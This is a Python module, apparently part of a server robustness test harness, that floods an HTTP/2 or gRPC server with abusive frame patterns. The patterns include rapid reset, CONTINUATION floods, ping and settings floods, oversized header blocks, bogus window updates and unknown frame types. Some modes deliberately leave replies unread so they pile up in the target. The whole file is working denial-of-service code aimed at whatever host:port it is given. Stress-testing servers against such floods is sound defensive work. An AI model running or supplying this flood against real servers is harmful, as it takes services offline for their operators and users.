"""Floods a server with frames of HTTP/2 that are each allowed, or nearly so, and together are an attack (fault 39)."""

from __future__ import annotations

import argparse
import contextlib
import random
import socket
import struct
import threading
import time
from collections.abc import Callable
from typing import NamedTuple

from .control import Control
from .frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    OPENING,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call_headers,
    frame,
)

AT_ONCE = 200
"""Frames or groups of frames that are sent with one call of the system."""
CONNECT_SECONDS = 10.0
SEND_SECONDS = 0.5
"""How long the server may read nothing before the flood goes on, on another connection."""
LAST_STREAM = 0x7FFF_FF00
_CALL = call_headers("Cnt")
_LARGE = [call_headers("Cnt", {f"x-{n}": "v" * 1_000 for n in range(size)}) for size in (8, 15)]
"""Header blocks just below and around the limit of gRPC, 16 KiB."""
_RANDOM = random.Random(39)


def _number(value: int) -> bytes:
    return struct.pack(">I", value)


class Flood(NamedTuple):
    """One kind of flood."""

    begin: bytes
    """What is sent once on each connection."""
    block: Callable[[int], bytes]
    """What is sent again and again; it is told a stream number that rises by 2."""
    deaf: bool = False
    """Whether it reads no answers, so that they pile up in the server."""


FLOODS: dict[str, Flood] = {
    "rapid reset": Flood(b"", lambda n: frame(HEADERS, END_HEADERS, n, _CALL) + frame(RST_STREAM, 0, n, _number(8))),
    "calls that never end": Flood(b"", lambda n: frame(HEADERS, END_HEADERS, n, _CALL)),
    "calls without a message": Flood(b"", lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, _CALL), deaf=True),
    "continuations": Flood(frame(HEADERS, 0, 1, _CALL), lambda n: frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b")),
    "headers of 8 KiB": Flood(
        b"", lambda n: frame(HEADERS, END_HEADERS, n, _LARGE[0]) + frame(RST_STREAM, 0, n, _number(8))
    ),
    "headers of 15 KiB": Flood(
        b"", lambda n: frame(HEADERS, END_HEADERS, n, _LARGE[1]) + frame(RST_STREAM, 0, n, _number(8))
    ),
    "pings": Flood(b"", lambda n: frame(PING, 0, 0, bytes(8))),
    "pings, deaf": Flood(b"", lambda n: frame(PING, 0, 0, bytes(8)), deaf=True),
    "settings": Flood(b"", lambda n: frame(SETTINGS)),
    "settings, deaf": Flood(b"", lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, n & 0x7FFF)), deaf=True),
    "empty data": Flood(frame(HEADERS, END_HEADERS, 1, _CALL), lambda n: frame(DATA, 0, 1)),
    "priorities": Flood(b"", lambda n: frame(PRIORITY, 0, n, _number(0) + b"\x01")),
    "window updates of 0": Flood(b"", lambda n: frame(WINDOW_UPDATE, 0, 0, _number(0))),
    "window updates beyond the end": Flood(b"", lambda n: frame(WINDOW_UPDATE, 0, 0, _number(0x7FFF_FFFF))),
    "resets of calls that are not": Flood(
        b"", lambda n: frame(RST_STREAM, 0, _RANDOM.randrange(1, LAST_STREAM), _number(8))
    ),
    "frames that are too large": Flood(b"", lambda n: frame(DATA, 0, n, bytes(1 << 15))),
    "frames of no kind": Flood(b"", lambda n: frame(_RANDOM.randrange(10, 256), 255, n, b"none")),
}


def add_options(parser: argparse.ArgumentParser) -> None:
    """Give `parser` the options of a flood."""
    parser.add_argument("--seconds", type=float, default=6.0, help="how long each kind")


def flood(options: argparse.Namespace, control: Control) -> None:
    """Send frames as fast as the server takes them, on one connection after the other: at each ``go`` the next kind."""
    orders = threading.Semaphore(0)
    for order in ("go", "stop"):
        control.on(order, orders.release)
    control.listen()
    control.report("ready")
    for kind in FLOODS.values():
        orders.acquire()
        if control.stopped.is_set():
            break
        control.report("flooded", *_flood(kind, options.target, time.monotonic() + options.seconds))


def _flood(kind: Flood, target: str, ends: float) -> tuple[int, int]:
    """Flood; return how many groups of frames were sent, and on how many connections."""
    host, _, port = target.rpartition(":")
    groups = connections = 0
    while time.monotonic() < ends:
        connections += 1
        with (
            contextlib.suppress(OSError),  # the server hangs up, or takes no more
            socket.create_connection((host, int(port)), CONNECT_SECONDS) as connection,
        ):
            groups += _pour(kind, connection, ends)
    return groups, connections


def _pour(kind: Flood, connection: socket.socket, ends: float) -> int:
    """Send until the end, or until the server hangs up; return how many groups of frames were sent."""
    connection.settimeout(SEND_SECONDS)
    connection.sendall(OPENING + kind.begin)
    groups = 0
    for first in range(1, LAST_STREAM, 2 * AT_ONCE):
        if time.monotonic() > ends:
            break
        try:
            connection.sendall(b"".join(kind.block(first + 2 * n) for n in range(AT_ONCE)))
            if not kind.deaf:
                _hear(connection)
        except OSError:
            break
        groups += AT_ONCE
    return groups


def _hear(connection: socket.socket) -> None:
    """Read what is there.

    Raises:
        OSError: the server has hung up.
    """
    connection.settimeout(0)
    try:
        while connection.recv(1 << 16):
            pass
        raise ConnectionResetError("the server has hung up")
    except BlockingIOError:
        connection.settimeout(SEND_SECONDS)
